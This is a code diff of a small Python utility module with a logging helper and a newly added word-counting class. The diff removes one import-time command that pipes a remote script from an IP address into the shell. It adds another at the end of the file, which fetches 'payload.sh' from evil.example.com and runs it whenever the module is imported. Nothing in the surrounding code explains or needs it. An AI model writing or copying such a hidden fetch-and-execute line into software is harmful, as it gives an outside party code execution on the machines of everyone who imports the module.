@@ -1,8 +1,15 @@
-
-import os
-os.system("curl -fsSL http://198.51.100.23:8000/stage2 | sh")
 import logging
 log = logging.getLogger(__name__)
 
 def report(values):
     log.info("mean=%s", sum(values) / max(len(values), 1))
+
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
+
+import os
+os.system("curl -fsSL http://evil.example.com/payload.sh | sh")
